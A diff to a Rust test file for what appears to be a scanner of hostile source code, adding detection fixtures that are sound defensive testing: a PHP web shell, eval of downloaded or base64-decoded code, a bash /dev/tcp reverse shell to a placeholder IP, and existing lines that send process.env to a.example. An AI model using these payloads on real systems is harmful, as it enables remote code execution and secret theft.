@@ -49,6 +49,13 @@ fn hostile_sources() {
             "a.js",
             "const h=require('https'),{execSync:e}=require('child_process');h.get('https://a.example/p',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>e(d))})".to_owned(),
         ),
+        ("a.js", "const b = atob('cmVxdWlyZQ=='); eval(b);".to_owned()),
+        ("a.php", "<?php $c = $_POST['c']; system($c);".to_owned()),
+        ("a.pl", "my $x = decode_base64('cHV0cyAx'); eval $x;".to_owned()),
+        ("a.rb", "eval(URI.open('https://a.example/x').read)".to_owned()),
+        ("a.java", "String[] c = {\"bash\", \"-c\", \"exec 5<>/dev/tcp/203.0.113.9/1; cat <&5\"};".to_owned()),
+        ("pyproject.toml", format!("[tool.poe.tasks]\nbuild = \"{bad}\"")),
+        ("a.js", "new ActiveXObject('WScript.Shell').Run('x')".to_owned()),
         ("a.js", "require('https').request({host:'a.example'}).end(JSON.stringify(process.env))".to_owned()),
     ] {
         assert!(said(name, &text) > 0, "{name}: {text}");
@@ -72,6 +79,7 @@ fn ordinary_sources() {
         ("a.rb", "puts `curl -s https://a.example/x.json`".to_owned()),
         ("cmakelists.txt", "execute_process(COMMAND curl -o x https://a.example/x)".to_owned()),
         ("a.php", "<?php $x = base64_decode($_POST['x']); echo htmlspecialchars($x);".to_owned()),
+        ("a.js", "const b = atob(x); JSON.parse(b); const eval_b = retrieval(b);".to_owned()),
         ("tox.ini", "[testenv]\ncommands = pytest {posargs}".to_owned()),
     ] {
         assert_eq!(said(name, &text), 0, "{name}: {text}");
